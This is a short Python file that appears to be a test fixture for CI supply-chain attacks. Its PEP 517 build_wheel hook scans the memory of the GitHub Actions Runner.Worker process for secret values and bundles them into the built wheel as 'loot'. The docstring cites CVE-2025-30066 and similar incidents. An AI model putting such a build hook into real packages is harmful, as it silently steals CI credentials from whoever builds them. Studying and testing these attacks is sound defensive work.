"""Searches the memory of the process Runner.Worker for values that it marks as secret.

The runner and its steps share a uid, so the steps may read the runner's memory. The
planted process has the same name and keeps the same text. tj-actions/changed-files did
(CVE-2025-30066), then trivy-action, then TanStack's payload.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read-memory"):
        for address, found in kit.search_memory(kit.find("runner"), b'"value":"'):
            loot[f"{address:x}.bin"] = found
    return kit.wheel(wheel_directory, loot)
